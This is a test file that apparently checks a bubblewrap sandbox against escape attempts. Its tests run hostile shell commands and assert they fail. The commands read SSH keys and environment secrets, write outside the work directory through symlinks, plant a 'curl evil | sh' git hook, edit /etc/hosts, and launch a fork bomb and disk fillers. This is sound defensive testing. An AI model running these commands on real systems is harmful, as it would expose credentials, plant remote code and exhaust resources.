"""The escape battery: each attempt runs in the real bubblewrap sandbox and must leave the host
unchanged. The API (`run_sandboxed`) is used directly so the battery stays fast."""

from __future__ import annotations

import io
import os
import socket
import threading
import time
import uuid

import pytest

from ccgpt.run.limits import Limits
from ccgpt.run.sandbox import EXIT_TIMEOUT, run_sandboxed
from run_helpers import FAKE_KEY


def sh(script, work, *, limits=None, net=False, section=None):
    out = io.StringIO()
    result = run_sandboxed(["bash", "-c", script], cwd=work, net=net, limits=limits or Limits(timeout=20),
                           section=section or {}, stdout=out, stderr=out, stdin=-3)
    return result, out.getvalue()


def test_writes_inside_the_working_directory(work):
    result, _ = sh("echo in > inside.txt", work)
    assert result.exit_code == 0 and result.backend == "bwrap"
    assert (work / "inside.txt").read_text() == "in\n"


def test_absolute_path_outside_is_read_only(work, area):
    target = area / "outside" / "abs.txt"
    result, out = sh(f"echo pwned > {target}", work)
    # As root the 0700 test area above the working directory is an empty read-only tmpfs
    # (`bwrap._workdir`): the path is not even there.
    assert result.exit_code != 0 and ("Read-only file system" in out or "No such file" in out)
    assert not target.exists()


def test_dotdot_outside_is_read_only(work, area):
    result, _ = sh("echo pwned > ../outside/dotdot.txt; echo pwned > ../dotdot.txt", work)
    assert result.exit_code != 0
    assert not (area / "outside" / "dotdot.txt").exists() and not (area / "dotdot.txt").exists()


def test_planted_symlink_pointing_out(work, area):
    victim = area / "outside" / "victim.txt"
    victim.write_text("original\n")
    (work / "link").symlink_to(victim)
    (work / "dirlink").symlink_to(area / "outside")
    result, _ = sh("echo pwned > link; echo pwned > dirlink/new.txt; ln -sf /etc/passwd link2; echo x >> link2", work)
    assert result.exit_code != 0
    assert victim.read_text() == "original\n"
    assert not (area / "outside" / "new.txt").exists()


def test_hard_link_to_outside_file(work, area):
    victim = area / "outside" / "hard.txt"
    victim.write_text("original\n")
    result, out = sh(f"ln {victim} h && echo pwned > h", work)
    assert result.exit_code != 0  # a link across the sandbox's mounts is refused (EXDEV)
    assert victim.read_text() == "original\n"
    assert not (work / "h").exists()


def test_private_key_in_home_is_hidden(work, area):
    result, out = sh("ls -la ~/.ssh; cat ~/.ssh/id_ed25519; cat ~/.netrc; echo end", work)
    assert "ccgpt-test-fake-key-material" not in out and "hunter2" not in out
    assert out.rstrip().endswith("end")
    assert (area / "home" / ".ssh" / "id_ed25519").read_text() == FAKE_KEY


def test_hidden_paths_cannot_be_written_either(work, area):
    result, _ = sh("echo evil >> ~/.ssh/authorized_keys", work)
    assert result.exit_code != 0
    assert not (area / "home" / ".ssh" / "authorized_keys").exists()


def test_ccgpt_store_is_hidden(work, area):
    data = area / "home" / ".local" / "share" / "ccgpt"
    data.mkdir(parents=True)
    (data / "ccgpt.db").write_text("history-secret-4471")
    result, out = sh(f"cat {data}/ccgpt.db; ls {data}", work)
    assert "history-secret-4471" not in out


def test_configured_hide_path(work, area):
    (area / "outside" / "private.txt").write_text("configured-secret-9912")
    result, out = sh(f"cat {area}/outside/private.txt", work, section={"hide": [str(area / "outside")]})
    assert "configured-secret-9912" not in out


def test_environment_secrets_do_not_leak(work, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-leak-me-123")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_leak_me_456")
    monkeypatch.setenv("MY_SETTING", "visible-789")
    result, out = sh("env", work, section={"pass_env": ["MY_SETTING", "GITHUB_*"]})
    assert "sk-leak-me" not in out and "ghp_leak_me" not in out  # a pattern never passes a secret name
    assert "MY_SETTING=visible-789" in out


class Listener:
    """A loopback TCP listener that records whether anyone connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


def test_no_network_by_default(work, listener):
    result, out = sh(f"exec 3<>/dev/tcp/127.0.0.1/{listener.port} && echo connected", work)
    assert result.exit_code != 0 and "connected" not in out
    assert listener.connections == 0


def test_network_with_net(work, listener):
    result, out = sh(f"exec 3<>/dev/tcp/127.0.0.1/{listener.port} && echo connected", work, net=True)
    assert result.exit_code == 0 and "connected" in out
    for _ in range(50):  # the accept thread may lag behind the sandbox's exit
        if listener.connections:
            break
        time.sleep(0.05)
    assert listener.connections == 1


def test_etc_hosts_and_host_tmp(work):
    marker = f"/tmp/ccgpt-escape-{uuid.uuid4().hex}"
    before = open("/etc/hosts").read()
    result, out = sh(f"echo '6.6.6.6 evil' >> /etc/hosts; echo x > {marker}; ls {marker}", work)
    assert open("/etc/hosts").read() == before
    # Permission denied: as root the command is the idmapped uid, a stranger to /etc/hosts.
    assert "Read-only file system" in out or "/etc/hosts: Permission denied" in out
    assert not os.path.exists(marker)  # it went to the sandbox's private /tmp, gone now


def test_git_hooks_and_config_are_read_only(work):
    (work / ".git" / "hooks").mkdir(parents=True)
    (work / ".git" / "config").write_text("[core]\n")
    result, _ = sh("echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; echo ok > file", work)
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert (work / "file").exists()  # the rest of the working tree stays writable


def _processes_with(token: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    if token.encode() in fh.read():
                        found.append(int(pid))
            except OSError:
                pass
    return found


def test_child_that_outlives_the_parent_is_killed(work):
    token = f"ccgpt-orphan-{uuid.uuid4().hex[:8]}"
    result, out = sh(f"(exec -a {token} sleep 60) & setsid bash -c 'exec -a {token}-b sleep 60' & echo started", work)
    assert result.exit_code == 0 and "started" in out
    assert not result.timed_out  # returned when the command did, not after 60 s
    leftovers = []
    for _ in range(40):
        leftovers = _processes_with(token)
        if not leftovers:
            break
        time.sleep(0.05)
    assert leftovers == []
    assert not (work / "late").exists()


def test_endless_loop_hits_the_wall_clock(work):
    result, _ = sh("while :; do :; done", work, limits=Limits(timeout=1, cpu_seconds=0))
    assert result.timed_out and result.exit_code == EXIT_TIMEOUT


def test_cpu_seconds_limit(work):
    result, _ = sh("while :; do :; done", work, limits=Limits(timeout=30, cpu_seconds=1))
    assert not result.timed_out
    assert result.exit_code == 128 + 24  # SIGXCPU


def test_memory_hog(work):
    result, out = sh("python3 -c 'x = bytearray(1024 * 1024 * 1024); print(\"allocated\")'", work,
                     limits=Limits(timeout=20, memory_mb=256))
    assert result.exit_code != 0 and "allocated" not in out and "MemoryError" in out


def test_disk_filler_in_cwd(work):
    result, _ = sh("dd if=/dev/zero of=big bs=1M count=64 status=none", work, limits=Limits(timeout=20, max_file_mb=4))
    assert result.exit_code != 0
    assert (work / "big").stat().st_size <= 4 * 1024 * 1024


def test_disk_filler_in_private_tmp(work):
    result, out = sh("for i in 1 2 3 4 5 6; do dd if=/dev/zero of=/tmp/f$i bs=1M count=4 status=none || exit 9; done",
                     work, section={"tmp_mb": 8}, limits=Limits(timeout=20, max_file_mb=16))
    assert result.exit_code == 9 and "No space left" in out


@pytest.mark.slow
def test_fork_bomb_is_contained(work):
    result, out = sh(":(){ :|:& };:; sleep 1; echo survived", work, limits=Limits(timeout=15, max_processes=40))
    assert not result.timed_out
    assert "survived" in out
    assert "fork" in out  # the bomb hit the process limit
    # The host can still start processes, and nothing of the bomb is left.
    assert os.system("true") == 0


def test_output_is_capped_and_sanitised(work):
    out = io.StringIO()
    result = run_sandboxed(["bash", "-c", "printf '\\033]0;pwned\\007\\033[2Jvisible\\n'; head -c 300000 /dev/zero | tr '\\0' a"],
                           cwd=work, limits=Limits(timeout=20, output_limit_kb=8), stdout=out, stderr=out, stdin=-3)
    text = out.getvalue()
    assert result.exit_code == 0 and result.output_truncated
    assert result.output_bytes > 300000
    assert "\x1b" not in text and "\x07" not in text and "visible" in text
    assert len(text) < 9 * 1024


def test_the_output_cut_notice_goes_to_the_callers_stderr(work, capfd):
    """A captured run (suggest's trial run, eval, MCP) says "output cut" in its own capture,
    never on the person's terminal."""
    out, err = io.StringIO(), io.StringIO()
    result = run_sandboxed(["bash", "-c", "head -c 300000 /dev/zero"], cwd=work,
                           limits=Limits(timeout=20, output_limit_kb=8), stdout=out, stderr=err, stdin=-3)
    assert result.output_truncated and "output cut at 8 KB" in err.getvalue()
    assert "output cut" not in capfd.readouterr().err


def test_exit_code_is_passed_through(work):
    result, _ = sh("exit 42", work)
    assert result.exit_code == 42 and result.sandbox_error is None


def test_missing_command(work):
    result = run_sandboxed(["no-such-program-xyz"], cwd=work, stdout=io.StringIO(), stderr=io.StringIO())
    assert result.exit_code == 127 and result.sandbox_error is None


def test_total_memory_is_bounded_across_processes(work):
    # The outside test: three processes held 1 GB each under memory_mb = 2048 (a per-process
    # rlimit). With a cgroup the whole sandbox is held to memory_mb.
    from ccgpt.run.cgroups import available

    if available() is None or "memory" not in available():
        pytest.skip("no memory cgroup can be created here (not root, or not delegated): per-process limits only")
    hog = "python3 -c 'x = bytearray(150 * 1024 * 1024); import time; time.sleep(3); print(\"held\")'"
    result, out = sh(f"for i in 1 2 3; do {hog} & done; wait", work, limits=Limits(timeout=30, memory_mb=256))
    assert result.limits["cgroup"].startswith("cgroup") and result.limits["total_memory_mb"] == 256
    assert out.splitlines().count("held") < 3 and "Killed" in out


def test_process_count_is_reported(work):
    result, _ = sh("true", work, limits=Limits(timeout=10, max_processes=50))
    if os.geteuid() == 0 and result.limits.get("cgroup"):
        assert result.limits["total_processes"] == 58
    else:
        assert result.limits.get("cgroup") is None  # rlimits only, and the detail says so


def test_cgroup_sweep_spares_live_runs_and_a_failed_join_stops_the_launch():
    import subprocess

    from ccgpt.run import cgroups
    from ccgpt.run.limits import make_preexec

    if cgroups.available() is None:
        pytest.skip("no cgroup can be created here (not root, or not delegated)")
    with cgroups.RunCgroup(16, 0) as group:
        mine = group.dirs[0]
        stale = mine.parent / "ccgpt-sandbox-999999999-dead"  # no such process
        stale.mkdir()
        cgroups._sweep(mine.parent)
        assert mine.is_dir()  # another run's sweep must not remove a cgroup not joined yet
        assert not stale.exists()
    assert not mine.exists()
    with pytest.raises(subprocess.SubprocessError):
        subprocess.Popen(["true"], preexec_fn=make_preexec([], ["/nonexistent/cgroup.procs"])).wait()
